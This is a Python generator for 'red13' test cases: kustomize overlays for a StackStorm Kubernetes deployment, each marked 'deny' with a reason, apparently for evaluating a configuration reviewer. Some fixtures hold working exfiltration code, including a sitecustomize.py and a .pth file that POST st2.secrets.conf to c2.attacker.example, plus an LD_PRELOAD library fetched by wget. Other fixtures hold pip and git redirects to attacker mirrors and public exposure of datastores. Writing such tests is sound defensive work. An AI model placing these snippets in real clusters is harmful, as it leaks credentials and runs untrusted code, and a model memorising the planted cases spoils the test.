#!/usr/bin/env python3
"""Generate red13 cases: /work/red13/cases/<id>/ + verdicts.tsv + planted.tsv."""
import json, os, shutil
HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
CASES = os.path.join(HERE, 'cases')
shutil.rmtree(CASES, ignore_errors=True); os.makedirs(CASES)
V, P = [], []
USER = "# Operator overrides (the chart's st2.config value). Highest priority.\n[api]\nallow_origin = '*'\n"
A8 = 'stackstorm/st2actionrunner:3.8.1'

def case(cid, env, exp, cls, reason, patches=(), resources=None, kust_extra='', raw=None, plant=None, kust=None):
    d = os.path.join(CASES, cid); os.makedirs(d)
    res = [f'../../{env}'] + list((resources or {}).keys())
    k = 'apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources:\n' + ''.join(f'  - {r}\n' for r in res)
    if patches:
        k += 'patches:\n'
        for i, (tgt, ops) in enumerate(patches):
            fn = f'p{i}.yaml'
            open(os.path.join(d, fn), 'w').write(json.dumps(ops, indent=1) + '\n')
            k += f'  - path: {fn}\n    target:\n' + ''.join(f'      {a}: {b}\n' for a, b in tgt.items())
    k += kust_extra
    if kust is not None: k = kust
    open(os.path.join(d, 'kustomization.yaml'), 'w').write(k)
    for fn, txt in (resources or {}).items(): open(os.path.join(d, fn), 'w').write(txt)
    for fn, txt in (raw or {}).items():
        open(os.path.join(d, fn), 'wb' if isinstance(txt, bytes) else 'w').write(txt)
    V.append((cid, exp, cls, reason))
    if plant: P.append((cid, plant))

def dep(name, kind='Deployment', group='apps'): return {'group': group, 'kind': kind, 'name': name}
def cm(name): return {'kind': 'ConfigMap', 'name': name}
def svc(name): return {'kind': 'Service', 'name': name}
def userconf(extra): return [(cm('st2-config'), [{'op': 'replace', 'path': '/data/st2.user.conf', 'value': USER + extra}])]
def sidecar(c): return [{'op': 'add', 'path': '/spec/template/spec/containers/-', 'value': c}]
def env(pairs, idx=0, append=False):
    if append: return [{'op': 'add', 'path': f'/spec/template/spec/containers/{idx}/env/-', 'value': {'name': a, 'value': b}} for a, b in pairs]
    return [{'op': 'add', 'path': f'/spec/template/spec/containers/{idx}/env', 'value': [{'name': a, 'value': b} for a, b in pairs]}]
def st2c(name, cmd, image=A8, extra=None):
    c = {'name': name, 'image': image, 'command': cmd,
         'volumeMounts': [{'name': 'st2-config-vol', 'mountPath': '/etc/st2/st2.docker.conf', 'subPath': 'st2.docker.conf'},
                          {'name': 'st2-config-secrets-vol', 'mountPath': '/etc/st2/st2.secrets.conf', 'subPath': 'st2.secrets.conf'}],
         'resources': {'requests': {'cpu': '10m', 'memory': '64Mi'}, 'limits': {'cpu': '200m', 'memory': '256Mi'}}}
    if extra: c.update(extra)
    return c
ARGS = ' --config-file=/etc/st2/st2.conf --config-file=/etc/st2/st2.docker.conf --config-file=/etc/st2/st2.secrets.conf'
def cmres(name, data, ns=None):
    s = f'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: {name}\n' + (f'  namespace: {ns}\n' if ns else '') + 'data:\n'
    for k, v in data.items():
        s += f'  {k}: |\n' + ''.join('    ' + l + '\n' for l in v.rstrip('\n').split('\n'))
    return s
def mountcm(cmname, path, sub=None, idx=0, vol='r13-vol'):
    m = {'name': vol, 'mountPath': path}
    if sub: m['subPath'] = sub
    return [{'op': 'add', 'path': '/spec/template/spec/volumes/-', 'value': {'name': vol, 'configMap': {'name': cmname}}},
            {'op': 'add', 'path': f'/spec/template/spec/containers/{idx}/volumeMounts/-', 'value': m}]
def service(name, spec, ann=None):
    s = {'apiVersion': 'v1', 'kind': 'Service', 'metadata': {'name': name}, 'spec': spec}
    if ann: s['metadata']['annotations'] = ann
    return json.dumps(s, indent=1) + '\n'
def obj(o): return json.dumps(o, indent=1) + '\n'
def lb(name, app, port, ann=None, extra=None):
    sp = {'type': 'LoadBalancer', 'selector': {'app': app, 'release': 'st2'}, 'ports': [{'name': 'p', 'port': port, 'targetPort': port}]}
    if extra: sp.update(extra)
    return {f'{name}.yaml': service(name, sp, ann)}
def ingress(name, svcname, port, ann=None, cls='nginx', host='x.example.com'):
    return {f'{name}.yaml': obj({'apiVersion': 'networking.k8s.io/v1', 'kind': 'Ingress', 'metadata': {'name': name, 'annotations': ann or {}},
        'spec': {'ingressClassName': cls, 'tls': [{'hosts': [host], 'secretName': 'st2web-ingress-tls'}], 'rules': [{'host': host, 'http': {'paths': [{'path': '/', 'pathType': 'Prefix', 'backend': {'service': {'name': svcname, 'port': {'number': port}}}}]}}]}})}

# ---------------------------------------------------------------- st2 configuration (unsafe)
U = 'st2-config'
case('cfg-mask-secrets-api-off', 'prod', 'deny', 'st2-secret-exposure', '[api] mask_secrets=False: st2 API returns secret action parameters unmasked to every user (st2 config api.mask_secrets, default True)', userconf('mask_secrets = False\n'))
case('cfg-mask-secrets-log-off', 'prod', 'deny', 'st2-secret-exposure', '[log] mask_secrets=False: secret parameters written in clear to logs (st2 log.mask_secrets)', userconf('\n[log]\nmask_secrets = False\n'))
case('cfg-mask-secrets-api-off-staging', 'staging', 'deny', 'st2-secret-exposure', 'staging: [api] mask_secrets = off (oslo bool)', userconf('mask_secrets = off\n'))
case('cfg-content-index-url', 'prod', 'deny', 'supply-chain', '[content] index_url to attacker: st2 pack install <name> resolves repo URLs from this index (st2 content.index_url)', userconf('\n[content]\nindex_url = https://packs.evil-mirror.example/v1/index.json\n'))
case('cfg-content-index-url-list', 'prod', 'deny', 'supply-chain', '[content] index_url list with attacker index first', userconf('\n[content]\nindex_url = https://st2-index.attacker.example/index.json,https://index.stackstorm.org/v1/index.json\n'))
case('cfg-pip-opts-index', 'prod', 'deny', 'supply-chain', '[actionrunner] pip_opts --index-url to attacker: pack virtualenv requirements installed from it', userconf('\n[actionrunner]\npip_opts = --index-url=https://pypi.attacker.example/simple\n'))
case('cfg-pip-opts-extra-index', 'prod', 'deny', 'supply-chain', '[actionrunner] pip_opts --extra-index-url (dependency confusion)', userconf('\n[actionrunner]\npip_opts = --extra-index-url,https://pypi.attacker.example/simple,--trusted-host,pypi.attacker.example\n'))
if 0: case('cfg-virtualenv-opts', 'prod', 'deny', 'supply-chain', '[actionrunner] virtualenv_opts with --extra-search-dir to attacker URL / system-site-packages', userconf('\n[actionrunner]\nvirtualenv_opts = --always-copy,--extra-search-dir=https://wheels.attacker.example/\n'))
case('cfg-coord-zake', 'prod', 'deny', 'settings-st2-cannot-run', '[coordination] url=zake:// is tooz in-memory fake: each process its own coordinator, no cross-replica locks for 3 workflowengines/schedulers (tooz zake driver is for tests)', userconf('\n[coordination]\nurl = zake://\n'))
case('cfg-coord-etcd3', 'prod', 'deny', 'crash-loop', '[coordination] url=etcd3+http:// needs etcd3gw client which st2 3.8.1 does not ship (stackstorm-ha.md §12)', userconf('\n[coordination]\nurl = etcd3+http://etcd:2379\n'))
case('cfg-coord-external-redis', 'prod', 'deny', 'exfiltration', '[coordination] url to a redis outside the cluster: locks and workflow state to an outside host', userconf('\n[coordination]\nurl = redis://coord.attacker.example:6379\n'))
case('cfg-db-ssl-on', 'prod', 'deny', 'crash-loop', '[database] ssl=True while mongod has no TLS: every st2 service fails to connect and exits (connection_retries 0)', userconf('\n[database]\nssl = True\n'))
case('cfg-msg-ssl-on', 'prod', 'deny', 'crash-loop', '[messaging] ssl=True while RabbitMQ 5672 is plain AMQP: TLS handshake fails, services exit', userconf('\n[messaging]\nssl = True\n'))
case('cfg-auth-use-ssl', 'prod', 'deny', 'crash-loop', '[auth] use_ssl=True with default cert path /etc/apache2/ssl/mycert.crt absent: st2auth raises ValueError at start (st2auth/cmd/api.py)', userconf('\n[auth]\nuse_ssl = True\n'))
case('cfg-db-host-external', 'prod', 'deny', 'exfiltration', '[database] host to an outside MongoDB: st2 authenticates with its credentials and reads rules/actions from attacker (RCE)', userconf('\n[database]\nhost = mongodb://203.0.113.40:27017/?authSource=admin\n'))
case('cfg-db-host-srv', 'prod', 'deny', 'exfiltration', '[database] host mongodb+srv:// outside name: SRV record picks the hosts', userconf('\n[database]\nhost = mongodb+srv://st2.db.attacker.example/?authSource=admin\n'))
case('cfg-msg-cluster-urls', 'prod', 'deny', 'exfiltration', '[messaging] cluster_urls takes precedence over url (st2common transport utils get_messaging_urls): st2 bus to attacker broker, executions injected', userconf('\n[messaging]\ncluster_urls = amqp://st2:st2@broker.attacker.example:5672/\n'))
case('cfg-auth-ttl-years', 'prod', 'deny', 'auth-weakening', '[auth] token_ttl 10 years: a stolen token never expires', userconf('\n[auth]\ntoken_ttl = 315360000\n'))
case('cfg-service-token-ttl', 'prod', 'deny', 'auth-weakening', '[auth] service_token_ttl 10 years', userconf('\n[auth]\nservice_token_ttl = 315360000\n'))
case('cfg-rbac-enable-y', 'prod', 'deny', 'crash-loop', "[rbac] enable = y: oslo.config Boolean accepts true/1/on/yes/false/0/off/no only; 'y' raises ValueError -> every service exits", [(cm(U), [{'op': 'replace', 'path': '/data/st2.user.conf', 'value': USER + '\n[rbac]\nenable = y\n'}])])
case('cfg-timezone-invalid', 'prod', 'deny', 'crash-loop', '[timersengine] local_timezone unknown: pytz UnknownTimeZoneError at scheduler start, timers engine crash-loops', userconf('\n[timersengine]\nlocal_timezone = America/Gotham\n'))
case('cfg-timers-disabled', 'prod', 'deny', 'settings-st2-cannot-run', '[timersengine] enable=False: the one timers engine fires nothing, every interval/cron rule dead (zero timers = REP-001 none)', userconf('\n[timersengine]\nenable = False\n'))
case('cfg-config-dir-authoff', 'prod', 'deny', 'auth-weakening', 'st2api gets --config-dir with a file setting [auth] enable=False (oslo.config reads --config-dir *.conf after --config-file)',
     [(dep('st2api'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--config-dir=/etc/st2/conf.d'}] + mountcm('st2-extra', '/etc/st2/conf.d'))],
     {'cm.yaml': cmres('st2-extra', {'zz-override.conf': '[auth]\nenable = False\n'})})
case('cfg-config-dir-rbacoff', 'prod', 'deny', 'auth-weakening', '--config-dir with [rbac] enable=False on st2api', 
     [(dep('st2api'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--config-dir'}, {'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '/etc/st2/conf.d'}] + mountcm('st2-extra', '/etc/st2/conf.d'))],
     {'cm.yaml': cmres('st2-extra', {'rbac.conf': '[rbac]\nenable = False\n'})})
case('cfg-scheduler-other-db', 'prod', 'deny', 'settings-st2-cannot-run', 'st2scheduler alone reads [database] db_name=st2sched: executions requested in st2 db are never scheduled', 
     [(dep('st2scheduler'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--config-file=/etc/st2/st2.zz.conf'}] + mountcm('st2-sched-extra', '/etc/st2/st2.zz.conf', 'st2.zz.conf'))],
     {'cm.yaml': cmres('st2-sched-extra', {'st2.zz.conf': '[database]\ndb_name = st2sched\n'})})
case('cfg-runner-other-vhost', 'prod', 'deny', 'settings-st2-cannot-run', 'st2actionrunner alone on another [messaging] url vhost: scheduled executions never consumed', 
     [(dep('st2actionrunner'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--config-file=/etc/st2/st2.zz.conf'}] + mountcm('st2-run-extra', '/etc/st2/st2.zz.conf', 'st2.zz.conf'))],
     {'cm.yaml': cmres('st2-run-extra', {'st2.zz.conf': '[messaging]\ncluster_urls = amqp://rabbitmq:5672/isolated\n'})})
case('cfg-logging-syslog-out', 'prod', 'deny', 'exfiltration', '[api] logging points at a logging.conf with SysLogHandler to an outside host: API logs (request bodies, tokens in debug) leave the cluster',
     userconf('logging = /etc/st2/logging.r13.conf\n') + [(dep('st2api'), mountcm('st2-logcfg', '/etc/st2/logging.r13.conf', 'logging.conf'))],
     {'cm.yaml': cmres('st2-logcfg', {'logging.conf': "[loggers]\nkeys=root\n[handlers]\nkeys=remote\n[formatters]\nkeys=f\n[logger_root]\nlevel=DEBUG\nhandlers=remote\n[handler_remote]\nclass=handlers.SysLogHandler\nlevel=DEBUG\nformatter=f\nargs=(('logs.attacker.example', 514),)\n[formatter_f]\nformat=%(message)s\n"})})
case('cfg-logging-http-out', 'prod', 'deny', 'exfiltration', 'logging.conf HTTPHandler posting every record to an outside URL (python logging.handlers.HTTPHandler)',
     userconf('\n[actionrunner]\nlogging = /etc/st2/logging.r13.conf\n') + [(dep('st2actionrunner'), mountcm('st2-logcfg', '/etc/st2/logging.r13.conf', 'logging.conf'))],
     {'cm.yaml': cmres('st2-logcfg', {'logging.conf': "[loggers]\nkeys=root\n[handlers]\nkeys=remote\n[formatters]\nkeys=f\n[logger_root]\nlevel=DEBUG\nhandlers=remote\n[handler_remote]\nclass=handlers.HTTPHandler\nlevel=DEBUG\nformatter=f\nargs=('collector.attacker.example:443', '/ingest', 'POST', True)\n[formatter_f]\nformat=%(message)s\n"})})
if 0: case('cfg-system-user-root', 'prod', 'deny', 'privilege-escalation', "[system_user] user = root: remote/local shell actions run as root (st2 system_user.user)", userconf('\n[system_user]\nuser = root\n'))
case('cfg-api-url-external', 'prod', 'deny', 'exfiltration', "[auth] api_url external: st2auth hands clients an outside API URL, tokens sent there", userconf('\n[auth]\napi_url = https://st2-api.attacker.example/\n'))

# st2-urls: actions and st2client send tokens to these
case('urls-api-external', 'prod', 'deny', 'exfiltration', 'ConfigMap st2-urls ST2_API_URL outside: python actions / st2client in runners send X-Auth-Token there',
     [(cm('st2-urls'), [{'op': 'replace', 'path': '/data/ST2_API_URL', 'value': 'https://st2api.attacker.example/'}])])
case('urls-auth-external', 'prod', 'deny', 'exfiltration', 'ST2_AUTH_URL outside: st2 login sends username/password there',
     [(cm('st2-urls'), [{'op': 'replace', 'path': '/data/ST2_AUTH_URL', 'value': 'https://203.0.113.77:9100/'}])])
case('env-http-proxy-runner', 'prod', 'deny', 'exfiltration', 'HTTP_PROXY on st2actionrunner without NO_PROXY: python-requests sends http://st2api:9101 calls with tokens to the outside proxy',
     [(dep('st2actionrunner'), env([('HTTP_PROXY', 'http://198.51.100.23:3128'), ('http_proxy', 'http://198.51.100.23:3128')]))])
case('env-https-proxy-all', 'prod', 'deny', 'exfiltration', 'ALL_PROXY on st2api (socks) outside',
     [(dep('st2api'), env([('ALL_PROXY', 'socks5h://proxy.attacker.example:1080'), ('all_proxy', 'socks5h://proxy.attacker.example:1080')]))])

# ---------------------------------------------------------------- code injection / supply chain
SITE = "import os, urllib.request\ntry:\n    urllib.request.urlopen('https://c2.attacker.example/x', data=open('/etc/st2/st2.secrets.conf','rb').read(), timeout=2)\nexcept Exception:\n    pass\n"
case('py-sitecustomize', 'prod', 'deny', 'supply-chain', 'sitecustomize.py mounted into st2 site-packages runs in every st2api process (Python site module) and posts st2.secrets.conf out',
     [(dep('st2api'), mountcm('st2-site', '/opt/stackstorm/st2/lib/python3.8/site-packages/sitecustomize.py', 'sitecustomize.py'))], {'cm.yaml': cmres('st2-site', {'sitecustomize.py': SITE})})
case('py-pth', 'prod', 'deny', 'supply-chain', '.pth file in site-packages: lines starting with import are executed at startup (Python site module)',
     [(dep('st2auth'), mountcm('st2-site', '/opt/stackstorm/st2/lib/python3.8/site-packages/zz-r13.pth', 'zz.pth'))], {'cm.yaml': cmres('st2-site', {'zz.pth': "import urllib.request; urllib.request.urlopen('https://c2.attacker.example/p', data=open('/etc/st2/st2.secrets.conf','rb').read())\n"})})
case('py-pythonpath', 'prod', 'deny', 'supply-chain', 'PYTHONPATH to a ConfigMap dir holding sitecustomize.py (runs first in every interpreter)',
     [(dep('st2actionrunner'), env([('PYTHONPATH', '/opt/r13')]) + mountcm('st2-site', '/opt/r13'))], {'cm.yaml': cmres('st2-site', {'sitecustomize.py': SITE})})
if 0: case('py-pythonstartup-usercustomize', 'prod', 'deny', 'supply-chain', 'usercustomize.py via PYTHONUSERBASE site dir', 
     [(dep('st2scheduler'), env([('PYTHONUSERBASE', '/opt/r13')]) + mountcm('st2-site', '/opt/r13/lib/python3.8/site-packages'))], {'cm.yaml': cmres('st2-site', {'usercustomize.py': SITE})})
case('git-insteadof', 'prod', 'deny', 'supply-chain', '/etc/gitconfig url.insteadOf rewrites StackStorm-Exchange to attacker: st2 pack install clones attacker code (git-config url.<base>.insteadOf)',
     [(dep('st2actionrunner'), mountcm('st2-gitcfg', '/etc/gitconfig', 'gitconfig'))], {'cm.yaml': cmres('st2-gitcfg', {'gitconfig': '[url "https://git.attacker.example/"]\n\tinsteadOf = https://github.com/StackStorm-Exchange/\n'})})
case('git-config-env', 'prod', 'deny', 'supply-chain', 'GIT_CONFIG_COUNT/KEY/VALUE env sets url.insteadOf (git >= 2.31)',
     [(dep('st2actionrunner'), env([('GIT_CONFIG_COUNT', '1'), ('GIT_CONFIG_KEY_0', 'url.https://git.attacker.example/.insteadOf'), ('GIT_CONFIG_VALUE_0', 'https://github.com/')]))])
case('pip-conf-etc', 'prod', 'deny', 'supply-chain', '/etc/pip.conf index-url to attacker on st2actionrunner (pip reads site-wide config)',
     [(dep('st2actionrunner'), mountcm('st2-pipcfg', '/etc/pip.conf', 'pip.conf'))], {'cm.yaml': cmres('st2-pipcfg', {'pip.conf': '[global]\nindex-url = https://pypi.attacker.example/simple\n'})})
case('pip-conf-xdg', 'prod', 'deny', 'supply-chain', 'XDG_CONFIG_DIRS pip/pip.conf index-url',
     [(dep('st2actionrunner'), env([('XDG_CONFIG_DIRS', '/opt/r13')]) + mountcm('st2-pipcfg', '/opt/r13/pip'))], {'cm.yaml': cmres('st2-pipcfg', {'pip.conf': '[global]\nextra-index-url = https://pypi.attacker.example/simple\n'})})
case('ld-preload-download', 'prod', 'deny', 'supply-chain', 'init container downloads a .so, LD_PRELOAD loads it into st2api',
     [(dep('st2api'), [{'op': 'add', 'path': '/spec/template/spec/volumes/-', 'value': {'name': 'pre', 'emptyDir': {}}},
        {'op': 'add', 'path': '/spec/template/spec/initContainers/-', 'value': {'name': 'fetch', 'image': 'busybox:1.36.1', 'command': ['sh', '-c', 'wget -q -O /pre/libx.so https://cdn.attacker.example/libx.so'], 'volumeMounts': [{'name': 'pre', 'mountPath': '/pre'}]}},
        {'op': 'add', 'path': '/spec/template/spec/containers/0/volumeMounts/-', 'value': {'name': 'pre', 'mountPath': '/pre'}}] + env([('LD_PRELOAD', '/pre/libx.so')]))])
case('image-volume-packs', 'prod', 'deny', 'supply-chain', 'Kubernetes image volume (KEP-4639) mounts an unpinned third-party image as /opt/stackstorm/packs',
     [(dep('st2actionrunner'), [{'op': 'add', 'path': '/spec/template/spec/volumes/-', 'value': {'name': 'extpacks', 'image': {'reference': 'ghcr.io/attacker/st2-packs:latest', 'pullPolicy': 'Always'}}},
        {'op': 'add', 'path': '/spec/template/spec/containers/0/volumeMounts/-', 'value': {'name': 'extpacks', 'mountPath': '/opt/stackstorm/packs/ext'}}])])
case('image-newname-fork', 'prod', 'deny', 'supply-chain', 'images transformer newName points st2api at an unofficial registry', kust_extra='images:\n  - name: stackstorm/st2api\n    newName: ghcr.io/st2-community-fork/st2api\n    newTag: "3.8.1"\n')
case('image-mongo-latest', 'prod', 'deny', 'supply-chain', 'images: mongo newTag latest (MongoDB 5+/8 unsupported by st2 3.8, mutable)', kust_extra='images:\n  - name: mongo\n    newTag: latest\n')
case('image-mongo-6', 'prod', 'deny', 'settings-st2-cannot-run', 'MongoDB 6.0: st2 3.8 supports at most 4.4 (stackstorm-ha.md §12)', kust_extra='images:\n  - name: mongo\n    newTag: "6.0.14"\n')
case('image-etcd-36', 'prod', 'deny', 'settings-st2-cannot-run', 'etcd 3.6 has no v2 API: tooz etcd:// driver fails (stackstorm-ha.md §12)', kust_extra='images:\n  - name: bitnamilegacy/etcd\n    newTag: "3.6.4"\n')
case('register-pack-git', 'prod', 'deny', 'supply-chain', 'register-content Job installs a pack from an outside git repo (code run by every runner)',
     [({'kind': 'Job', 'name': 'st2-register-content'}, [{'op': 'add', 'path': '/spec/template/spec/initContainers/-', 'value': st2c('pack-inst', ['sh', '-c', 'st2 pack install https://git.attacker.example/ops/st2-helpers.git=main'])}])])

# ---------------------------------------------------------------- singletons
case('tim-glob-sidecar', 'prod', 'deny', 'singleton-twice', 'sidecar in st2actionrunner (8 pods) execs st2timersengine by shell glob: 8 timers engines (ha.rst: exactly one)',
     [(dep('st2actionrunner'), sidecar(st2c('helper', ['sh', '-c', 'exec /opt/stackstorm/st2/bin/st2tim*engine' + ARGS])))])
case('tim-cmdsubst', 'prod', 'deny', 'singleton-twice', 'sidecar execs st2$(echo timers)engine: command substitution names the timers engine',
     [(dep('st2api'), sidecar(st2c('helper', ['sh', '-c', 'exec /opt/stackstorm/st2/bin/st2$(echo timers)engine' + ARGS])))])
case('tim-find-exec', 'prod', 'deny', 'singleton-twice', 'sidecar runs find -name st2timers* -exec {}',
     [(dep('st2rulesengine'), sidecar(st2c('helper', ['sh', '-c', "find /opt/stackstorm/st2/bin -name 'st2timers*' -exec {}" + ARGS + " \\;"])))])
case('tim-symlink', 'prod', 'deny', 'singleton-twice', 'sidecar symlinks st2timersengine to /tmp/worker and execs it',
     [(dep('st2workflowengine'), sidecar(st2c('helper', ['sh', '-c', 'ln -s /opt/stackstorm/st2/bin/st2timersengine /tmp/worker && exec /tmp/worker' + ARGS])))])
case('tim-ifs-split', 'prod', 'deny', 'singleton-twice', 'sidecar: B=timers; exec .../st2${B}engine (variable inside word)',
     [(dep('st2scheduler'), sidecar(st2c('helper', ['bash', '-c', 'B=timers; exec /opt/stackstorm/st2/bin/st2${B}engine' + ARGS])))])
case('tim-python-runpy', 'prod', 'deny', 'singleton-twice', 'st2 venv python imports st2reactor.cmd.timersengine by concatenated name and runs main(): a second timers engine in each of 3 st2api pods',
     [(dep('st2api'), sidecar(st2c('helper', ['/opt/stackstorm/st2/bin/python', '-c', "import importlib,sys; m=importlib.import_module('st2reactor.cmd.'+'timers'+'engine'); sys.exit(m.main())", '--config-file=/etc/st2/st2.conf', '--config-file=/etc/st2/st2.docker.conf', '--config-file=/etc/st2/st2.secrets.conf'])))])
case('tim-rollingupdate-maxsurge0', 'prod', 'deny', 'singleton-twice', 'st2timersengine RollingUpdate maxSurge 0: new pod starts while old one is still Terminating (only Recreate guarantees termination first; KEP-3973)',
     [(dep('st2timersengine'), [{'op': 'replace', 'path': '/spec/strategy', 'value': {'type': 'RollingUpdate', 'rollingUpdate': {'maxSurge': 0, 'maxUnavailable': 1}}}])])
case('tim-replicas-replacement', 'prod', 'deny', 'singleton-twice', 'kustomize replacements copies st2api replicas (3) into st2timersengine',
     kust_extra='replacements:\n  - source:\n      kind: Deployment\n      name: st2api\n      fieldPath: spec.replicas\n    targets:\n      - select:\n          kind: Deployment\n          name: st2timersengine\n        fieldPaths:\n          - spec.replicas\n')
case('sensor-single-dup', 'prod', 'deny', 'singleton-twice', 'extra single-sensor-mode Deployment for a sensor the all-sensors container also runs: sensor runs twice (ha.rst partitioning)',
     resources={'dep.yaml': obj({'apiVersion': 'apps/v1', 'kind': 'Deployment', 'metadata': {'name': 'st2sensor-linux'}, 'spec': {'replicas': 1, 'strategy': {'type': 'Recreate'}, 'selector': {'matchLabels': {'app': 'st2sensor-linux'}}, 'template': {'metadata': {'labels': {'app': 'st2sensor-linux'}}, 'spec': {'containers': [st2c('st2sensorcontainer', ['/opt/stackstorm/st2/bin/st2sensorcontainer', '--config-file=/etc/st2/st2.conf', '--config-file=/etc/st2/st2.docker.conf', '--config-file=/etc/st2/st2.secrets.conf', '--single-sensor-mode', '--sensor-ref=linux.FileWatchSensor'], image='stackstorm/st2sensorcontainer:3.8.1')], 'volumes': [{'name': 'st2-config-vol', 'configMap': {'name': 'st2-config'}}, {'name': 'st2-config-secrets-vol', 'secret': {'secretName': 'st2-config-secrets'}}]}}}})})
case('tim-lifecycle-poststart', 'prod', 'deny', 'singleton-twice', 'postStart hook in st2api (3 pods) backgrounds a timers engine',
     [(dep('st2api'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/lifecycle', 'value': {'postStart': {'exec': {'command': ['sh', '-c', 'nohup /opt/stackstorm/st2/bin/st2timersengine' + ARGS + ' >/dev/null 2>&1 &']}}}}])])
case('sensor-probe-exec', 'prod', 'deny', 'singleton-twice', 'startupProbe exec on st2rulesengine (3 pods) starts a backgrounded st2sensorcontainer: every sensor runs 3 more times',
     [(dep('st2rulesengine'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/startupProbe', 'value': {'exec': {'command': ['sh', '-c', 'pgrep -f st2sensorcontainer || (nohup /opt/stackstorm/st2/bin/st2sensorcontainer' + ARGS + ' &); true']}, 'periodSeconds': 10}}])])
case('gc-plus-timers-args', 'prod', 'deny', 'singleton-twice', 'st2garbagecollector container command swapped for st2timersengine via args: two timers engines',
     [(dep('st2garbagecollector'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command', 'value': ['sh', '-c', 'exec "$0" "$@"', '/opt/stackstorm/st2/bin/st2timersengine']}])])

# ---------------------------------------------------------------- exposure
case('exp-externalips-st2api', 'prod', 'deny', 'exposure', 'Service with externalIPs: kube-proxy answers on 203.0.113.10:9101 for st2api',
     resources={'s.yaml': service('st2api-ext', {'selector': {'app': 'st2api', 'release': 'st2'}, 'externalIPs': ['203.0.113.10'], 'ports': [{'port': 9101}]})})
case('exp-externalips-mongo', 'prod', 'deny', 'exposure', 'MongoDB Service externalIPs on a public address',
     [(svc('mongodb'), [{'op': 'add', 'path': '/spec/externalIPs', 'value': ['198.51.100.50']}])])
case('exp-lb-aws-internal-false', 'prod', 'deny', 'exposure', 'LoadBalancer annotated aws-load-balancer-internal: "false" is internet-facing', resources=lb('st2api-lb', 'st2api', 9101, {'service.beta.kubernetes.io/aws-load-balancer-internal': 'false'}))
case('exp-lb-azure-internal-false', 'prod', 'deny', 'exposure', 'MongoDB LoadBalancer azure-load-balancer-internal "false" = public', resources=lb('mongo-lb', 'mongodb', 27017, {'service.beta.kubernetes.io/azure-load-balancer-internal': 'false'}))
case('exp-lb-scheme-internet', 'prod', 'deny', 'exposure', 'NLB with aws-load-balancer-scheme internet-facing (LB controller) overrides legacy internal annotation', resources=lb('st2api-lb', 'st2api', 9101, {'service.beta.kubernetes.io/aws-load-balancer-internal': 'true', 'service.beta.kubernetes.io/aws-load-balancer-scheme': 'internet-facing'}, {'loadBalancerClass': 'service.k8s.aws/nlb'}))
case('exp-lb-ranges-all', 'prod', 'deny', 'exposure', 'loadBalancerSourceRanges 0.0.0.0/0 restricts nothing', resources=lb('rmq-lb', 'rabbitmq', 5672, None, {'loadBalancerSourceRanges': ['0.0.0.0/0']}))
case('exp-lb-ranges-halves', 'prod', 'deny', 'exposure', 'loadBalancerSourceRanges 0.0.0.0/1 + 128.0.0.0/1 = whole IPv4 internet', resources=lb('st2api-lb', 'st2api', 9101, None, {'loadBalancerSourceRanges': ['0.0.0.0/1', '128.0.0.0/1']}))
case('exp-lb-ranges-annotation-all', 'prod', 'deny', 'exposure', 'source-ranges annotation 0.0.0.0/0', resources=lb('mongo-lb', 'mongodb', 27017, {'service.beta.kubernetes.io/load-balancer-source-ranges': '0.0.0.0/0'}))
case('exp-ingress-whitelist-all', 'prod', 'deny', 'exposure', 'Ingress for the RabbitMQ management UI with whitelist-source-range 0.0.0.0/0: a range that admits every address restricts nothing', resources=ingress('mongo-express', 'rabbitmq', 15672, {'nginx.ingress.kubernetes.io/whitelist-source-range': '0.0.0.0/0'}, host='rmq.st2.example.com'))
case('exp-ingress-allowlist-halves', 'prod', 'deny', 'exposure', 'Ingress for RabbitMQ management with allowlist 0.0.0.0/1,128.0.0.0/1', resources=ingress('rmq-mgmt', 'rabbitmq', 15672, {'nginx.ingress.kubernetes.io/allowlist-source-range': '0.0.0.0/1,128.0.0.0/1'}, host='rmq.st2.example.com'))
case('exp-hostport-mongo', 'prod', 'deny', 'exposure', 'hostPort 27017 on mongod: reachable on every node IP',
     [(dep('mongodb', 'StatefulSet'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/ports/0/hostPort', 'value': 27017}])])
case('exp-hostnetwork-etcd', 'prod', 'deny', 'exposure', 'hostNetwork on etcd: v2 API without auth on node IPs',
     [(dep('etcd', 'StatefulSet'), [{'op': 'add', 'path': '/spec/template/spec/hostNetwork', 'value': True}])])
case('exp-tcproute-mongo', 'prod', 'deny', 'exposure', 'Gateway API TCPRoute attaches MongoDB to a shared gateway',
     resources={'r.yaml': obj({'apiVersion': 'gateway.networking.k8s.io/v1alpha2', 'kind': 'TCPRoute', 'metadata': {'name': 'mongo'}, 'spec': {'parentRefs': [{'name': 'public', 'namespace': 'gateway-system', 'sectionName': 'tcp-27017'}], 'rules': [{'backendRefs': [{'name': 'mongodb', 'port': 27017}]}]}})})
case('exp-httproute-st2api', 'prod', 'deny', 'exposure', 'HTTPRoute puts the RabbitMQ management UI (store admin) on the shared public gateway',
     resources={'r.yaml': obj({'apiVersion': 'gateway.networking.k8s.io/v1', 'kind': 'HTTPRoute', 'metadata': {'name': 'st2api'}, 'spec': {'parentRefs': [{'name': 'public', 'namespace': 'gateway-system'}], 'hostnames': ['rmq.st2.example.com'], 'rules': [{'backendRefs': [{'name': 'rabbitmq', 'port': 15672}]}]}})})
case('exp-istio-vs-tcp', 'prod', 'deny', 'exposure', 'Istio VirtualService tcp route on the ingress gateway to RabbitMQ',
     resources={'r.yaml': obj({'apiVersion': 'networking.istio.io/v1beta1', 'kind': 'VirtualService', 'metadata': {'name': 'rmq'}, 'spec': {'hosts': ['*'], 'gateways': ['istio-system/public-gateway'], 'tcp': [{'match': [{'port': 5672}], 'route': [{'destination': {'host': 'rabbitmq', 'port': {'number': 5672}}}]}]}})})
case('exp-traefik-tcp', 'prod', 'deny', 'exposure', 'Traefik IngressRouteTCP HostSNI(`*`) to MongoDB',
